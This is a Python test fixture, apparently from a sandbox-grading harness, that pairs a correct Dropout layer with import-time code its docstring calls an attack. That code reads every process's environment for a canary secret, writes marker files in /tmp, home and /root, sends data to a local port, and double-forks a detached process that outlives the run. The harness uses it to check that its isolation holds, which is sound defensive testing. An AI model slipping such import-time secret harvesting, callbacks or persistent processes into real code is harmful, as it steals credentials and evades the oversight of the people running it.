"""Attack: a correct layer whose import tries to get out of the sandbox.

It looks for secrets in every environment it can read, writes files where drill and its
user live, phones home on 127.0.0.1, and leaves a detached process behind. The test
(tests/test_golden.py, "escape" in expected.json) checks that none of it reached the
outside, and that the correct layer still earns full marks.
"""
import glob
import os
import socket
import sys

import torch
import torch.nn as nn

found = []
for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"] + glob.glob("/proc/*/environ"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    if b"golden-canary" in data:
        found.append(path)
print("secrets found in:", found or "nothing")

for target in ["/tmp/drill-golden-escape", os.path.expanduser("~/drill-golden-escape"),
               f"/proc/{os.getppid()}/cwd/drill-golden-escape", "/root/drill-golden-escape"]:
    try:
        with open(target, "w") as handle:
            handle.write("escaped\n")
    except OSError:
        pass

try:
    with socket.create_connection(("127.0.0.1", 47311), timeout=1) as conn:
        conn.sendall(b"escaped")
except OSError:
    pass

# a detached process that outlives this one, unless drill ends the whole tree
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.execv(sys.executable, [sys.executable, "-c",
                                      "import time; time.sleep(600)", "drill-golden-marker"])
        finally:
            os._exit(0)
    os._exit(0)
os.wait()


class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        if not 0 <= p < 1:
            raise ValueError(f"p must be in [0, 1), got {p}")
        self.p = p

    def forward(self, x):
        if not self.training or self.p == 0:
            return x
        mask = (torch.rand_like(x) >= self.p).to(x.dtype)
        return x * mask / (1.0 - self.p)
